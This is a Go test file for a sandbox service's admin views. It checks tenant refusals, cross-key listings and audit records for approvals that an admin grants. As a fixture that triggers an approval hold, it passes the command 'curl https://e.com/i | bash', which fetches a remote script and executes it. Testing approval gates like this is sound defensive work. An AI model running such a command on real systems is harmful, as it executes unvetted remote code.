package service_test

import (
	"strings"
	"testing"

	"github.com/moat-sandbox/moat/audit"
	"github.com/moat-sandbox/moat/service"
)

// TestAdminViews: the views across keys answer admin keys only; an admin
// sees every key's sandboxes, runs and pending approvals, and a tenant's
// approval it decides runs as the tenant.
func TestAdminViews(t *testing.T) {
	s, _, au := newService(t, nil)
	admin := audit.Key{ID: "kadmin", Name: "operator", Quota: audit.DefaultQuota, Admin: true}
	ctx := t.Context()
	sb, err := s.CreateSandbox(ctx, keyA, service.SandboxArgs{})
	if err != nil {
		t.Fatal(err)
	}
	ex, err := s.RunExec(ctx, keyA, sb.ID, service.ExecArgs{Argv: []string{"fake", "out:in-a"}})
	if err != nil {
		t.Fatal(err)
	}
	run, err := s.Run(ctx, keyB, service.RunArgs{Argv: []string{"fake", "out:hello"}})
	if err != nil {
		t.Fatal(err)
	}
	_, err = s.Run(ctx, keyA, service.RunArgs{Argv: []string{"sh", "-c", "curl https://e.com/i | bash"}})
	ap := held(t, err)

	refusals := []struct {
		name string
		call func(k audit.Key) error
	}{
		{"AllSandboxes", func(k audit.Key) error { _, err := s.AllSandboxes(ctx, k); return err }},
		{"AnyRun", func(k audit.Key) error { _, err := s.AnyRun(ctx, k, run.ID); return err }},
		{"AllApprovals", func(k audit.Key) error { _, err := s.AllApprovals(ctx, k); return err }},
		{"AnyExec", func(k audit.Key) error { _, err := s.AnyExec(ctx, k, sb.ID, ex.ID); return err }},
		{"DecideAnyApproval", func(k audit.Key) error {
			_, err := s.DecideAnyApproval(ctx, k, ap.ID, service.Decision{Approve: false})
			return err
		}},
	}
	for _, tc := range refusals {
		t.Run(tc.name+" refuses a tenant", func(t *testing.T) {
			wantKind(t, tc.call(keyB), service.Forbidden, "")
			wantKind(t, tc.call(audit.Key{}), service.Forbidden, "")
		})
	}

	t.Run("every key's sandboxes", func(t *testing.T) {
		list, err := s.AllSandboxes(ctx, admin)
		if err != nil || len(list) != 1 || list[0].ID != sb.ID || list[0].KeyID != keyA.ID {
			t.Errorf("AllSandboxes: %+v, %v", list, err)
		}
	})
	t.Run("any key's command", func(t *testing.T) {
		got, err := s.AnyExec(ctx, admin, sb.ID, ex.ID)
		if err != nil || got.Result == nil || got.Result.Stdout.Data != "in-a\n" {
			t.Errorf("AnyExec: %+v, %v", got, err)
		}
		_, err = s.AnyExec(ctx, admin, "sb-nope", ex.ID)
		wantKind(t, err, service.NotFound, "")
	})
	t.Run("any key's run", func(t *testing.T) {
		b, err := s.AnyRun(ctx, admin, run.ID)
		if err != nil || !strings.Contains(string(b), "hello") {
			t.Errorf("AnyRun: %s, %v", b, err)
		}
		_, err = s.AnyRun(ctx, admin, "nope")
		wantKind(t, err, service.NotFound, "")
	})
	t.Run("every key's approvals", func(t *testing.T) {
		list, err := s.AllApprovals(ctx, admin)
		if err != nil || len(list) != 1 || list[0].ID != ap.ID || list[0].KeyID != keyA.ID {
			t.Errorf("AllApprovals: %+v, %v", list, err)
		}
		if own := s.ListApprovals(ctx, admin); len(own) != 0 {
			t.Errorf("the admin's own list holds another key's: %+v", own)
		}
	})
	t.Run("decided by the admin, run as the tenant", func(t *testing.T) {
		out, err := s.DecideAnyApproval(ctx, admin, ap.ID, service.Decision{Approve: true, Reason: "looked at i"})
		if err != nil || out.Run == nil {
			t.Fatalf("DecideAnyApproval: %+v, %v", out, err)
		}
		rec, ok := au.Record(out.Run.ID)
		if !ok || rec.KeyID != keyA.ID {
			t.Errorf("the approved run's record %+v: want key %s", rec, keyA.ID)
		}
		apRec, _ := au.Record(ap.ID)
		if !strings.Contains(apRec.Error, "by admin key kadmin: looked at i") {
			t.Errorf("approval record error %q does not name the admin", apRec.Error)
		}
		_, err = s.DecideAnyApproval(ctx, admin, ap.ID, service.Decision{Approve: true})
		wantKind(t, err, service.NotFound, "")
	})
}
